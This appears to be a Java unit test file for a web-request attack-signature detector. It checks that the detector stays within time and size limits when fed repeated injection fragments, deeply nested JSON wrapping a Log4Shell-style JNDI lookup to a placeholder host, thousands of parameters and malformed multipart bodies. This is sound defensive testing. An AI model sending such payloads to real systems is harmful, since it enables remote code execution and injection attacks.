package io.periscope.detection.signature.engine;

import static org.assertj.core.api.Assertions.assertThat;

import io.periscope.detection.signature.Exchanges;
import io.periscope.detection.signature.InputLocation;
import io.periscope.detection.signature.LocationKind;
import io.periscope.detection.signature.locate.Cap;
import io.periscope.events.http.Header;
import io.periscope.events.http.QueryParam;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

/** Values built to make a detector work hard: each judged within a bound whatever its content. */
class HostileInputTest {
    private static final int KIB_100 = 100 * 1024;
    private final SignatureEngine engine = SignatureEngine.withDefaults();

    @ParameterizedTest
    @ValueSource(strings = {"../", "${", "${${", "{{", "<!ENTITY ", "; ", "&", "|", "$(", "`", "%2e%2e%2f", "0x2e",
            "//", "\\", "$ne:", "'", "<", "%", "%%32%%66", "{{7*", "<%=", "http://", "?"})
    void hundredKibibyteValuesOfOnePatternAreJudgedWithinTwoSeconds(String unit) {
        String value = unit.repeat(KIB_100 / unit.length() + 1);
        assertTimeoutPreemptively(Duration.ofSeconds(2), () -> {
            for (LocationKind kind : List.of(LocationKind.QUERY_VALUE, LocationKind.BODY, LocationKind.JSON_KEY)) {
                engine.inspectValue(value, new InputLocation(kind, "next"));
            }
        });
    }

    @Test
    void jsonNestedTenThousandLevelsIsReadToTheDepthLimitAndCounted() {
        String deep = "[".repeat(10_000) + "\"${jndi:ldap://x.example/a}\"" + "]".repeat(10_000);
        var request = Exchanges.request("POST", "/", List.of(), List.of(), "application/json", deep);
        assertTimeoutPreemptively(Duration.ofSeconds(2), () -> engine.inspect(Exchanges.exchange(request, null)));
        assertThat(engine.stats().capped(Cap.JSON_DEPTH) + engine.stats().capped(Cap.JSON_MALFORMED)).isPositive();
    }

    @Test
    void aRequestOfManyParametersIsCappedAndCounted() {
        List<QueryParam> params = new ArrayList<>();
        for (int i = 0; i < 5000; i++) {
            params.add(new QueryParam("p" + i, "value " + i));
        }
        var request = Exchanges.request("GET", "/", params, List.of(new Header("User-Agent", "x")), null, null);
        assertTimeoutPreemptively(Duration.ofSeconds(2), () -> engine.inspect(Exchanges.exchange(request, null)));
        assertThat(engine.stats().capped(Cap.VALUES)).isEqualTo(1);
    }

    @Test
    void aMultipartBodyWithoutTerminatorsAndABinaryLookingBodyDoNotThrow() {
        String junk = "--b\r\n".repeat(20_000) + "\u0000\uFFFF";
        var request = Exchanges.request("POST", "/", List.of(), List.of(new Header("Content-Type", "multipart/form-data; boundary=b")),
                "multipart/form-data", junk);
        assertThatCode(() -> assertTimeoutPreemptively(Duration.ofSeconds(2),
                () -> engine.inspect(Exchanges.exchange(request, null)))).doesNotThrowAnyException();
    }
}
